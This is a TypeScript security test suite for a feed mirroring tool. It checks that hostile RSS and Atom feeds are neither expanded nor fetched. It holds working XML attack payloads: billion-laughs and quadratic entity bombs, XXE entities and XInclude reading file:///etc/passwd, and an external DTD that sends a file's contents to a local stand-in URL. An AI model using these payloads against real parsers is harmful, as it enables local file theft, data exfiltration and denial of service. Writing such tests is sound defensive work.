/**
 * XML attacks (issue 8): entity expansion (billion laughs, quadratic blowup), external entities
 * pointing at local files (file:///etc/passwd must never appear in any output or in the store),
 * parameter entities and external DTDs (never fetched), and DOCTYPE tricks. feedmirror never
 * expands DOCTYPE-declared entities: on "Invalid character entity" it drops the DOCTYPE and keeps
 * unknown references as literal text (src/ingest/parse-xml-feed.ts).
 *
 * Each feed runs through the real CLI next to a good source; the run must end on its own, stay
 * under the memory bound, publish the good source and leave only valid files. Each case checks
 * its files with xmllint, the JSON Feed schema and JSON.parse; jing, feedparser and the W3C Feed
 * Validator (slow to start: a JVM and two Pythons) judge the files of every case in one pass at
 * the end, from a copy of each case's output folder named after the case.
 */
import { existsSync } from 'node:fs';
import { cp, mkdtemp, rm } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { feed, type FixtureServer } from '../remote/helpers/fixture-server.js';
import { atomFeed } from '../remote/helpers/feeds.js';
import { testScope } from '../remote/helpers/scope.js';
import { expectBoundedMemory, expectExit, expectNoPasswd } from './helpers/expectations.js';
import { goodFeedXml, GOOD_TITLE } from './helpers/hostile-responses.js';
import { checkOutputTree, dumpStore, treeText } from './helpers/outputs.js';
import { runFeedmirror, useChildCleanup } from './helpers/processes.js';

const scope = testScope();
useChildCleanup();

const CASE = { timeout: 120_000 };

const ITEM_LINK = 'http://hostile.example/attack';

function rssWith(doctype: string, title: string, description: string, extra = ''): string {
  return `<?xml version="1.0" encoding="utf-8"?>
${doctype}
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/">
  <channel>
    <title>Attack feed</title>
    <link>http://hostile.example/</link>
    <description>x</description>
    <item>
      <title>${title}</title>
      <link>${ITEM_LINK}</link>
      <guid>${ITEM_LINK}</guid>
      <pubDate>Mon, 02 Jun 2025 10:00:00 GMT</pubDate>
      <description>${description}</description>${extra}
    </item>
  </channel>
</rss>
`;
}

const LOL = 'lol';
const BILLION_LAUGHS = `<!DOCTYPE rss [
  <!ENTITY lol "${LOL}">
${Array.from({ length: 9 }, (_, i) => `  <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`).join('\n')}
]>`;

/** Fits in the 4 KB the format sniffer looks at, so it reaches the XML parser: 3.5 KB × 300,000 references ≈ 1 GB if expanded. */
const QUADRATIC = `<!DOCTYPE rss [<!ENTITY a "${'A'.repeat(3_500)}">]>`;
/** A 100 KB internal subset: bigger than the sniffer's 4 KB window, so the body is refused before parsing. */
const QUADRATIC_BIG = `<!DOCTYPE rss [<!ENTITY a "${'A'.repeat(100_000)}">]>`;

type Expected = 'stored' | 'refused';

interface AttackCase {
  name: string;
  body: (server: FixtureServer) => string;
  /** stored: the item is published with the entity left unexpanded; refused: a recorded FM_PARSE / FM_NOT_A_FEED. */
  expected: Expected;
  /** Checks on the stored item's text (title + content) when stored. */
  stored?: (text: string) => void;
}

const CASES: AttackCase[] = [
  {
    name: 'billion laughs (10 levels of 10, 10^9 "lol"s if expanded)',
    body: () => rssWith(BILLION_LAUGHS, 'Laughs &lol9;', 'Body &lol9; end'),
    expected: 'stored',
    stored: (text) => {
      expect(text).toContain('&lol9;');
      expect(text).not.toContain(LOL.repeat(4));
    },
  },
  {
    name: 'quadratic blowup (a 3.5 KB entity referenced 300,000 times: 1 GB if expanded)',
    body: () => rssWith(QUADRATIC, 'Quadratic &a;', `Body ${'&a;'.repeat(300_000)} end`),
    expected: 'stored',
    stored: (text) => {
      expect(text).not.toContain('A'.repeat(100));
      // the literal "&a;" references are capped like any content (limits.maxContentBytes)
      expect(text.length).toBeLessThan(1_000_000);
    },
  },
  {
    name: 'quadratic blowup with a 100 KB internal subset: refused as not a feed (the sniffer reads 4 KB)',
    body: () => rssWith(QUADRATIC_BIG, 'Quadratic &a;', `Body ${'&a;'.repeat(20_000)} end`),
    expected: 'refused',
  },
  {
    name: 'external entity SYSTEM "file:///etc/passwd" in text and in an attribute',
    body: () =>
      rssWith(
        '<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
        'Secrets: &xxe;',
        'Here they are: &xxe;',
        '\n      <enclosure url="http://hostile.example/a.mp3?x=&xxe;" type="audio/mpeg" length="1"/>',
      ),
    expected: 'stored',
    stored: (text) => expect(text).toContain('&xxe;'),
  },
  {
    name: 'parameter entities pulling an external DTD from a server (never fetched)',
    body: (server) =>
      rssWith(
        `<!DOCTYPE rss [
  <!ENTITY % file SYSTEM "file:///etc/passwd">
  <!ENTITY % dtd SYSTEM "${server.url('/evil.dtd')}">
  %dtd;
  %send;
]>`,
        'Parameter entities &exfil;',
        'Body &exfil;',
      ),
    expected: 'stored',
  },
  {
    name: 'an external DTD subset (<!DOCTYPE rss SYSTEM "http://…/evil.dtd">, never fetched)',
    body: (server) => rssWith(`<!DOCTYPE rss SYSTEM "${server.url('/evil.dtd')}">`, 'External subset', 'Body'),
    expected: 'stored',
  },
  {
    name: 'the RSS 0.91 PUBLIC DOCTYPE that real feeds carry (its DTD never fetched)',
    body: (server) => rssWith(`<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "${server.url('/evil.dtd')}">`, 'Old school &amp; fine', 'Body &eacute;t&eacute;'),
    expected: 'stored',
    stored: (text) => {
      expect(text).toContain('Old school & fine');
      expect(text).toContain('été');
    },
  },
  {
    name: 'DOCTYPE trick: "]>" inside a quoted entity value, to end a naive DOCTYPE match early',
    body: () => rssWith('<!DOCTYPE rss [<!ENTITY trick "]>"><!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'Trick &xxe;', 'Body &xxe; &trick;'),
    expected: 'refused',
  },
  {
    name: 'DOCTYPE trick: "]>" inside a comment in the internal subset',
    body: () => rssWith('<!DOCTYPE rss [<!-- ]> --><!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'Comment trick &xxe;', 'Body &xxe;'),
    expected: 'refused',
  },
  {
    name: 'DOCTYPE trick: two DOCTYPEs',
    body: () => rssWith('<!DOCTYPE rss [<!ENTITY a "x">]>\n<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', 'Two doctypes &xxe;', 'Body &a; &xxe;'),
    expected: 'refused',
  },
  {
    name: 'DOCTYPE trick: an entity that expands to markup (<!ENTITY m "<script>…">) in a title',
    body: () => rssWith('<!DOCTYPE rss [<!ENTITY m "&#60;script&#62;alert(1)&#60;/script&#62;">]>', 'Markup &m;', 'Body &m;'),
    expected: 'stored',
    stored: (text) => expect(text).not.toMatch(/<script/i),
  },
  {
    name: 'Atom with an external entity inside type="xhtml" content (the SAX pass) and an XInclude of /etc/passwd',
    body: () =>
      atomFeed(
        [
          `<entry>
    <title type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml">Atom &xxe;</div></title>
    <id>${ITEM_LINK}</id>
    <link href="${ITEM_LINK}"/>
    <updated>2025-06-02T10:00:00Z</updated>
    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Before &xxe; after</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/></div></content>
  </entry>`,
        ],
      ).replace('<feed ', '<!DOCTYPE feed [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<feed '),
    expected: 'stored',
    stored: (text) => expect(text).not.toMatch(/xi:include|<include/i),
  },
  {
    name: 'an XInclude of /etc/passwd in RSS content:encoded (escaped HTML) is dropped by the sanitizer',
    body: () =>
      rssWith(
        '',
        'XInclude',
        'Body',
        '\n      <content:encoded><![CDATA[<p>Text</p><xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>]]></content:encoded>',
      ),
    expected: 'stored',
    stored: (text) => expect(text).not.toMatch(/xi:include|<include|parse=|href="file/i),
  },
];

/** Where each case's output folder is copied for the validators' single pass: `case-N`. */
let judged: string;
const caseDir = (n: number) => path.join(judged, `case-${n}`);

describe('XML attacks: bounded, never expanded, never fetched, nothing leaked', () => {
  beforeAll(async () => {
    judged = await mkdtemp(path.join(os.tmpdir(), 'feedmirror-xml-attacks-'));
  });
  afterAll(async () => {
    if (judged) await rm(judged, { recursive: true, force: true });
  });

  for (const [n, c] of CASES.entries()) {
    it(c.name, CASE, async () => {
      const server = await scope.server();
      server.on('/attack.xml', feed(c.body(server)));
      server.on('/good.xml', feed(goodFeedXml()));
      server.on('/evil.dtd', feed('<!ENTITY % all "<!ENTITY send SYSTEM \'http://127.0.0.1:9/?%file;\'>"> <!ENTITY exfil "EXFILTRATED">', 'application/xml-dtd'));
      const h = await scope.harness({
        sources: [
          { id: 'attack', url: server.url('/attack.xml') },
          { id: 'good', url: server.url('/good.xml') },
        ],
      });

      const result = await runFeedmirror(['run', '--config', h.configPath, '--log-format', 'json'], { cwd: h.dir });

      expectExit(result, 0);
      expectBoundedMemory(result);
      expect(server.hits('/evil.dtd'), 'an external DTD was fetched').toEqual([]);
      const state = await h.state('attack');
      const articles = await h.articles(['attack']);
      if (c.expected === 'stored') {
        expect(state, `${state.lastErrorCode}: ${state.lastError}`).toMatchObject({ lastOutcome: 'ok' });
        expect(articles).toHaveLength(1);
        const text = `${articles[0]!.title}\n${articles[0]!.contentHtml}\n${articles[0]!.summary ?? ''}`;
        expect(text).not.toContain('EXFILTRATED');
        c.stored?.(text);
      } else {
        expect(state.lastOutcome).toBe('error');
        expect(['FM_PARSE', 'FM_NOT_A_FEED']).toContain(state.lastErrorCode);
        expect(articles).toEqual([]);
      }
      expectNoPasswd(await treeText(h.feedsDir), 'the output folder');
      expectNoPasswd(await dumpStore(h.databasePath), 'the store');
      expect((await h.articles(['good'])).map((a) => a.title)).toEqual([GOOD_TITLE]);
      expect(await checkOutputTree(h.feedsDir, { deep: false })).toEqual([]);
      await cp(h.feedsDir, caseDir(n), { recursive: true });
    });
  }

  it('the files every case left pass jing, feedparser and the W3C Feed Validator (one process each for all cases)', CASE, async () => {
    const problems = await checkOutputTree(judged);
    // "case-N/…" → the case's name
    const named = problems.map((line) => line.replace(/^case-(\d+)\//, (_, n: string) => `${CASES[Number(n)]!.name}: `));
    expect(named).toEqual([]);
    // every case got this far and left its files to judge
    expect(CASES.map((_, n) => caseDir(n)).filter((dir) => !existsSync(dir))).toEqual([]);
  });
});
